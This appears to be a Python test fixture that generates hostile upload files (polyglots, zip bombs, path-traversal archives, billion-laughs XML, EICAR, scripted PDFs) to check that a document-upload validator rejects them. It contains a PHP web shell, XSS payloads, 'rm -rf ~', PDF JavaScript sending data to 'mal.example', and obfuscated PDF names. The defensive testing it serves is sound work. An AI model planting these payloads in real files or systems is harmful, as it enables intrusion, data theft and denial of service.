"""The hostile files of B11, made here: polyglots, other kinds, archives, sizes, images, active PDFs."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf

from sorties.examen_pdf import RAISONS
from sorties.fichiers import POLYGLOTTE, TAILLE_MAX
from tests.fabriques.sorties import image, pdf
from tests.sorties.fichiers_pieges import ACTIFS, bloc_png, pdf_avec, png_menteur

TYPE = "Déposer un PDF, ou une image JPEG ou PNG."
VIDE = "Le fichier soumis est vide."
IMAGE = "Cette image est illisible ou endommagée."
GRANDE = "Cette image est trop grande : réduire sa définition."
LOURD = "Un fichier pèse 10 Mo au plus."
ACTIF, ILLISIBLE, CHIFFRE = RAISONS["actif"], RAISONS["illisible"], RAISONS["chiffre"]
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PAGE_WEB = b"<!DOCTYPE html><script>alert(document.cookie)</script>"
# What it is, the name of the file, its content, the message.
Cas = tuple[str, str, bytes, str]


def archive(*membres: tuple[str, bytes]) -> bytes:
    sortie = io.BytesIO()
    with zipfile.ZipFile(sortie, "w", zipfile.ZIP_DEFLATED) as contenu:
        for nom, octets in membres:
            contenu.writestr(nom, octets)
    return sortie.getvalue()


def bombe(etages: int) -> bytes:
    """Zeroes in a zip, that zip in another: little to send, much to unfold."""
    contenu = archive(("zeros", b"\0" * 1_000_000))
    for _ in range(etages):
        contenu = archive(*((f"{rang}.zip", contenu) for rang in range(8)))
    return contenu


def lien_symbolique() -> bytes:
    sortie = io.BytesIO()
    with zipfile.ZipFile(sortie, "w") as contenu:
        membre = zipfile.ZipInfo("lien")
        membre.external_attr = 0o120777 << 16
        contenu.writestr(membre, "/etc/passwd")
    return sortie.getvalue()


def milliard_de_rires() -> bytes:
    entites = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    xml = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{entites}]><x>&a9;</x>'
    return archive(("[Content_Types].xml", b"<Types/>"), ("xl/sharedStrings.xml", xml.encode()))


def document_word(*, macro: bool) -> bytes:
    membres = [("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")]
    return archive(*membres, *([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")] if macro else []))


def png_texte_bombe() -> bytes:
    """A sound image with a compressed comment that unfolds into 30 MB."""
    sain = image("PNG")
    comment = b"Comment\0\0" + zlib.compress(b"\0" * 30_000_000, 1)
    return sain[:33] + bloc_png(b"zTXt", comment) + sain[33:]


def png_pixels_bombe() -> bytes:
    """6 000 × 6 000, within the limits announced, and no line of it inside."""
    entete = struct.pack(">IIBBBBB", 6_000, 6_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + bloc_png(b"IHDR", entete) + bloc_png(b"IDAT", b"\0" * 10) + bloc_png(b"IEND", b"")


def _flux_bombe(document: pikepdf.Pdf) -> None:
    document.Root.Metadata = document.make_stream(b"<script>")  # harmless; the bomb is below
    document.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x")))


def _annotation(document: pikepdf.Pdf, **champs: Any) -> None:
    document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(**champs)])


def _action_distante(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String(r"\\mal.example\partage"))
    _annotation(document, Subtype=pikepdf.Name.Link, A=action)


def _champ_qui_calcule(document: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.submitForm('http://mal.example')"))
    champ = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("a"), AA=pikepdf.Dictionary(C=script))
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([champ]))


def _cache_dans_un_flux_d_objets(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = document.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('http://mal.example')"))
    )


def nom_maquille() -> bytes:
    """/JavaScript written /J#61vaScript, as evaders do."""
    return (
        pdf_avec(ACTIFS["script à l’ouverture"]).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    )


def flux_d_objets_bombe() -> bytes:
    """An object stream of 1.2 GB of spaces in 1.2 MB: it must be unfolded to read the catalogue."""
    objets = b"1 0 2 60 " + b"<</Type/Catalog/Pages 2 0 R>>".ljust(60) + b"<</Type/Pages/Count 0/Kids[]>>"
    espaces, fois = b" " * 1_000_000, 1_200
    somme = zlib.adler32(objets)
    for _ in range(fois):
        somme = zlib.adler32(espaces, somme)
    compresse = b"\x78\xda" + _morceau(objets) + _morceau(espaces) * fois + b"\x03\x00" + struct.pack(">I", somme)
    flux = b"3 0 obj\n<</Type/ObjStm/N 2/First 9/Filter/FlateDecode/Length %d>>\nstream\n%b\nendstream\nendobj\n"
    debut = b"%PDF-1.5\n"
    corps = debut + flux % (len(compresse), compresse)
    entrees = ((0, 0, 0), (2, 3, 0), (2, 3, 1), (1, len(debut), 0), (1, len(corps), 0))
    table = b"".join(struct.pack(">BIB", *entree) for entree in entrees)
    xref = b"4 0 obj\n<</Type/XRef/Size 5/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n%b\nendstream\nendobj\n"
    return corps + xref % (len(table), table) + b"startxref\n%d\n%%%%EOF\n" % len(corps)


def _morceau(octets: bytes) -> bytes:
    """Deflated so that it may be repeated: it refers to nothing before it."""
    compresseur = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compresseur.compress(octets) + compresseur.flush(zlib.Z_FULL_FLUSH)


def _polyglottes() -> Iterator[Cas]:
    """Polyglots: two programs read two documents."""
    sain = pdf("sain")
    yield "PDF suivi d’un ZIP", "bulletin.pdf", sain + archive(("a.exe", b"MZ")), POLYGLOTTE
    yield "PDF suivi d’une page web", "bulletin.pdf", sain + PAGE_WEB, POLYGLOTTE
    yield "PDF suivi d’un JAR", "bulletin.pdf", sain + archive(("META-INF/MANIFEST.MF", b"Main-Class: a")), POLYGLOTTE
    yield "PDF qui commence en page web", "bulletin.pdf", sain[:9] + b"%" + PAGE_WEB + b"\n" + sain[9:], POLYGLOTTE
    yield "PDF qui commence en PHP", "bulletin.pdf", sain[:9] + b"%<?php system($_GET[0]) ?>\n" + sain[9:], POLYGLOTTE
    yield "PDF qui commence en SVG", "bulletin.pdf", sain[:9] + b"%<svg onload=alert(1)>\n" + sain[9:], POLYGLOTTE
    yield "page web qui contient un PDF", "bulletin.pdf", PAGE_WEB + sain, TYPE
    yield "ZIP qui contient un PDF", "bulletin.pdf", archive(("bulletin.pdf", sain)), TYPE
    yield "script shell devant un PDF", "bulletin.pdf", b"#!/bin/sh\nrm -rf ~\n" + sain, TYPE
    yield "GIFAR", "photo.gif", b"GIF89a\x01\0\x01\0\0\0\0;" + archive(("A.class", b"\xca\xfe\xba\xbe")), TYPE
    yield "GIF en script", "photo.png", b"GIF89a/*" + b"*/=1;alert(1)//", TYPE
    yield "BMP en script", "photo.png", b"BM/*" + b"\0" * 40 + b"*/=1;alert(1)", TYPE


def _autres_genres() -> Iterator[Cas]:
    """Other kinds under an honest or a borrowed name."""
    sain = pdf("sain")
    svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    yield "SVG qui agit", "logo.svg", svg, TYPE
    yield "SVG nommé PNG", "logo.png", svg, TYPE
    yield "page web nommée PDF", "bulletin.pdf", PAGE_WEB, TYPE
    yield "page web en UTF-16", "bulletin.pdf", PAGE_WEB.decode().encode("utf-16"), TYPE
    yield "programme nommé PDF", "bulletin.pdf", b"MZ\x90\0" + b"\0" * 200, TYPE
    yield "programme ELF nommé JPEG", "photo.jpg", b"\x7fELF" + b"\0" * 200, TYPE
    yield "docx", "contrat.docx", document_word(macro=False), TYPE
    yield "docm", "contrat.docm", document_word(macro=True), TYPE
    yield "docm nommé PDF", "contrat.pdf", document_word(macro=True), TYPE
    yield "ancien format Word", "contrat.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, TYPE
    yield "RTF avec objet", "contrat.rtf", rb"{\rtf1{\object\objocx}}", TYPE
    yield "raccourci Windows", "contrat.pdf.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, TYPE
    yield "PostScript", "contrat.pdf", b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n", TYPE
    yield "EICAR", "bulletin.pdf", EICAR, TYPE
    yield "EICAR compressé", "eicar.zip", archive(("eicar.com", EICAR)), TYPE
    yield "EICAR joint à un PDF", "bulletin.pdf", pdf_avec(lambda d: d.attachments.__setitem__("e.com", EICAR)), ACTIF
    yield "EICAR à la suite d’un PDF", "bulletin.pdf", sain + EICAR, POLYGLOTTE


def _archives() -> Iterator[Cas]:
    """Archives, which nobody asked for."""
    yield "bombe à plat", "pieces.zip", bombe(0), TYPE
    yield "bombe emboîtée", "pieces.zip", bombe(3), TYPE
    yield "bombe nommée PDF", "pieces.pdf", bombe(1), TYPE
    yield "archive qui remonte", "pieces.zip", archive(("../../etc/cron.d/x", b"* * * * * root id")), TYPE
    yield "lien symbolique", "pieces.zip", lien_symbolique(), TYPE
    yield "milliard de rires", "heures.xlsx", milliard_de_rires(), TYPE
    yield "gzip", "bulletin.pdf", b"\x1f\x8b\x08\0" + b"\0" * 60, TYPE


def _tailles_et_noms() -> Iterator[Cas]:
    """Files of an impossible size, or of a name that lies."""
    yield "zéro octet", "vide.pdf", b"", VIDE
    yield "dix mégaoctets et un", "gros.pdf", b"%PDF-" + b"0" * TAILLE_MAX, LOURD
    yield "nom qui se lit à l’envers", "fiche\u202efdp.exe", b"MZ" + b"\0" * 50, TYPE
    yield "nom qui remonte", "../../../etc/passwd.pdf", b"root:x:0:0", TYPE


def _images() -> Iterator[Cas]:
    """Images that are none, or that are too much."""
    png = image("PNG")
    jpeg = image("JPEG")
    yield "30 000 pixels", "photo.png", png_menteur(30_000, 30_000), GRANDE
    yield "un pixel sur 60 000", "photo.png", png_menteur(60_000, 1), GRANDE
    yield "pixels absents", "photo.png", png_pixels_bombe(), IMAGE
    yield "commentaire bombe", "photo.png", png_texte_bombe(), IMAGE
    yield "PNG en PHP", "photo.png", b"\x89PNG\r\n\x1a\n<?php system($_GET[0]) ?>", IMAGE
    yield "JPEG en page web", "photo.jpg", b"\xff\xd8\xff\xe0" + PAGE_WEB, IMAGE
    yield "PNG coupé", "photo.png", png[: len(png) // 2], IMAGE
    yield "JPEG coupé", "photo.jpg", jpeg[: len(jpeg) // 2], IMAGE
    yield "somme fausse", "photo.png", png[:29] + b"\0\0\0\0" + png[33:], IMAGE


def _pdf_hostiles() -> Iterator[Cas]:
    """PDFs that act, that hide or that are broken."""
    sain = pdf("sain")
    for cas, modifier in ACTIFS.items():
        yield f"PDF, {cas}", "bulletin.pdf", pdf_avec(modifier), ACTIF
    autres: dict[str, Callable[[pikepdf.Pdf], None]] = {
        "action du document": _flux_bombe,
        "lien vers un partage": _action_distante,
        "champ qui calcule": _champ_qui_calcule,
    }
    for cas, modifier in autres.items():
        yield f"PDF, {cas}", "bulletin.pdf", pdf_avec(modifier), ACTIF
    cache = pdf_avec(_cache_dans_un_flux_d_objets, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield "PDF, script dans un flux d’objets", "bulletin.pdf", cache, ACTIF
    yield "PDF, nom maquillé", "bulletin.pdf", nom_maquille(), ACTIF
    yield "PDF chiffré", "b.pdf", pdf_avec(lambda d: None, encryption=pikepdf.Encryption(owner="a", user="b")), CHIFFRE
    yield "PDF tronqué", "bulletin.pdf", sain[:200], ILLISIBLE
    yield "PDF, flux d’objets bombe", "bulletin.pdf", flux_d_objets_bombe(), ILLISIBLE


def corpus() -> Iterator[Cas]:
    """Every hostile file."""
    for genre in (_polyglottes, _autres_genres, _archives, _tailles_et_noms, _images, _pdf_hostiles):
        yield from genre()
